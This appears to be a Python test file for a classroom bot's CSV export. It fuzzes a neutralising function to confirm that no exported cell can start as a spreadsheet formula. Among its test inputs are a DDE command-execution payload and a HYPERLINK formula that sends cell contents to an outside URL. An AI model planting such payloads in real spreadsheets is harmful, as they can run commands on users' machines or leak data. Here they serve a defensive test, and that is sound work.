"""No cell of a file runs as a formula, whatever students write or are called."""

from __future__ import annotations

import random
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.core.record import AttachmentRow, ParticipationRecord
from bot.core.record_completeness import RecordCompleteness
from bot.exports.spreadsheet_cells import neutralise_cell
from tests.support.csv_files import read_csv
from tests.support.exported_files import csv_files
from tests.support.harness import FIRST

FORMULAS = ("=", "+", "-", "@")
SIGNS = st.sampled_from("=+-@\t\r\n＝＋－＠")
BLANKS = st.text(st.sampled_from(" \u00a0\u200b\ufeff\u202e\u2066\x00"), max_size=4)
ROW = AttachmentRow(
    course="c",
    prompt="p",
    student="Ada",
    discord_id="",
    sent_at=FIRST,
    kind="file",
    name="essay.docx",
    size=5,
    response=None,
    deleted=False,
    deleted_at=None,
    link="",
)


@given(BLANKS, SIGNS, st.text(max_size=20))
@settings(max_examples=500, deadline=None)  # the first example lists all invisible characters
def test_no_cell_is_a_formula(blanks: str, sign: str, rest: str) -> None:
    assert neutralise_cell(blanks + sign + rest).startswith("'")


def fuzzed_cells(count: int) -> list[str]:
    """Texts that begin like formulas in every way that a spreadsheet forgives, from one seed."""
    rng = random.Random(20270118)
    blanks, signs = " \u00a0\u200b\ufeff\u202e\u2066\x00\x1f", "=+-@\t\r\n＝＋－＠﹢"
    tails = [
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://x?"&A1,"y")',
        "SUM(A1:A9)",
        "é, ”\n=1",
        "",
    ]

    def cell() -> str:
        before = "".join(rng.choices(blanks, k=rng.randrange(4)))
        return before + rng.choice(signs) + rng.choice(tails) + chr(rng.randrange(0x20, 0xD7FF))

    return [cell() for _ in range(count)]


def test_no_fuzzed_cell_is_a_formula() -> None:
    cells = iter(fuzzed_cells(100_000))
    rows = tuple(
        ROW._replace(student=next(cells), prompt=next(cells), name=next(cells), link=next(cells))
        for _ in range(25_000)
    )
    record = ParticipationRecord(
        completeness=RecordCompleteness(course="c", swept_to=None, unswept=()),
        responses=(),
        revisions=(),
        participation=(),
        attachments=rows,
    )
    written = read_csv(csv_files(record)["attachments.csv"])
    assert len(written) == len(rows)
    for row in written:
        for column in ("student", "prompt", "name", "link"):
            assert not unicodedata.normalize("NFKC", row[column].lstrip()).startswith(FORMULAS)


@given(st.text(st.characters(categories=("L", "N", "P", "Zs")), min_size=1, max_size=40))
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    word = "a" + text
    assert neutralise_cell(word) == word
